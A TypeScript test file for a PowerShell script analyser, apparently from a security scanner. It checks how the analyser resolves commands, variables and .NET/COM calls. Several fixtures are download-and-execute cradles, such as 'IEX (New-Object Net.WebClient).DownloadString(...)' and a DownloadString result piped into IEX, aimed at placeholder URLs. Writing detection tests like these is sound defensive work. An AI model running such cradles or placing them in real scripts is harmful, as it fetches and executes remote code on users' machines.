// Covers src/resolve/scripts/powershell.ts: commands, typed .NET/COM calls and resolved values.
import { showTemplate } from '../../../src/match/finding-builder.js';
import { createParser } from '../../../src/parse/tree-sitter-runtime.js';
import { analyzePowerShell } from '../../../src/resolve/scripts/powershell.js';

async function facts(source: string) {
  const parser = await createParser('powershell');
  const tree = parser.parse(source)!;
  try {
    return analyzePowerShell(tree, source);
  } finally {
    tree.delete();
    parser.delete();
  }
}

const commands = async (source: string) =>
  (await facts(source)).commands.map((c) => c.words.map(showTemplate));
const calls = async (source: string) =>
  (await facts(source)).methods.map(
    (m) => `${m.range.line}:${m.type}.${m.method}(${m.args.map(showTemplate).join(', ')})`,
  );

test.each([
  ['comments are not commands', '# iwr http://a\n<# iwr http://b #>\nGet-Date', [['Get-Date']]],
  ['a literal assignment resolves', '$u = "http://a.example"\niwr $u', [['iwr', 'http://a.example']]],
  [
    'expandable strings interpolate variables',
    '$h = "h.example"\niwr "http://$h/x"',
    [['iwr', 'http://h.example/x']],
  ],
  ['verbatim strings do not', "iwr 'http://$h/x'", [['iwr', 'http://$h/x']]],
  ['$env: variables are environment holes', 'iwr "$env:API/x"', [['iwr', '<environment variable API>/x']]],
  ['+ concatenates strings', '$u = "http://" + "c.example"\nirm $u', [['irm', 'http://c.example']]],
  [
    'here-strings are data unless run',
    '$s = @"\niwr http://x\n"@\nWrite-Output $s',
    [['Write-Output', 'iwr http://x']],
  ],
  [
    'parameters are kept as words',
    'iwr -Uri http://p -UseBasicParsing',
    [['iwr', '-Uri', 'http://p', '-UseBasicParsing']],
  ],
  [
    'script block bodies are analysed',
    'Invoke-Command -ScriptBlock { iwr http://s }',
    [
      ['iwr', 'http://s'],
      ['Invoke-Command', '-ScriptBlock', '<a script block>'],
    ],
  ],
])('%s', async (_title, source, expected) => {
  expect(await commands(source)).toEqual(expected);
});

test.each([
  [
    'New-Object types a variable',
    '$w = New-Object System.Net.WebClient\n$w.DownloadString("http://a")',
    ['1:net.webclient.new()', '2:net.webclient.downloadstring(http://a)'],
  ],
  [
    'a static constructor types the result',
    '[Net.WebClient]::new().DownloadFile("http://b", "c")',
    ['1:net.webclient.new()', '1:net.webclient.downloadfile(http://b, c)'],
  ],
  [
    'a method call in argument mode is a call',
    'IEX (New-Object Net.WebClient).DownloadString("http://c")',
    ['1:net.webclient.new()', '1:net.webclient.downloadstring(http://c)'],
  ],
  [
    'COM objects by ProgID',
    '$x = New-Object -ComObject MSXML2.XMLHTTP\n$x.Open("GET", "http://d", $false)',
    ['1:msxml2.xmlhttp.new()', '2:msxml2.xmlhttp.open(GET, http://d, false)'],
  ],
  [
    'IPAddress members are addresses',
    '[Net.Sockets.TcpListener]::new([Net.IPAddress]::Any, 80)',
    ['1:net.sockets.tcplistener.new(0.0.0.0, 80)'],
  ],
  ['calls on unknown objects are not facts', '$o.DownloadString("http://e")', []],
])('%s', async (_title, source, expected) => {
  expect(await calls(source)).toEqual(expected);
});

test('a pipeline carries the method calls that feed a command', async () => {
  const { commands: list } = await facts('(New-Object Net.WebClient).DownloadString("http://f") | IEX');
  const iex = list.find((c) => showTemplate(c.words[0]!) === 'IEX');
  expect(iex?.calls?.map((c) => c.method)).toContain('downloadstring');
});
